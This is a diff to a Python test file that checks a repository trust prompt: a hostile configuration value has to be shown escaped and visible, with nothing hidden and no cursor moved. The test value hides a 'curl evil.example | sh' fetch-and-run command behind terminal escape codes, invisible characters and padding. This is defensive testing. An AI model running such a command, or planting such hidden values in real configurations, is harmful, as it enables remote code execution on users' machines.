@@ -126,14 +126,17 @@ def test_revoking_takes_it_back_once(asking: Path) -> None:
 
 def test_a_hostile_value_hides_nothing_and_moves_no_cursor(repo: Path) -> None:
     hidden = f"make\x1b[2K\x1b[1A\r\u202e\u3164\n{' ' * 500}; curl evil.example | sh"
-    text = json.dumps({"post_create": hidden, "env": {"A": "\x9b31m\x7f"}}, ensure_ascii=False)
+    text = json.dumps(
+        {"post_create": hidden, "env": {"A": f"\x9b\x7f{hidden}"}}, ensure_ascii=False
+    )
     (repo / ".cspace.json").write_text(text, encoding="utf-8")
     assert "\x1b" not in text  # JSON escapes what would move the cursor …
     assert "\u3164" in text  # … and not what is merely invisible
     shown = trust(repo, ok=2).text
     assert shown.isascii()
     assert shown.replace("\n", "").isprintable()
-    assert json.dumps(hidden) in shown
+    assert f"    {json.dumps(hidden)}" in shown.splitlines()
+    assert json.dumps(f"\x9b\x7f{hidden}") in shown
 
 
 def test_a_repository_with_a_hostile_name_moves_no_cursor(repo: Path) -> None:
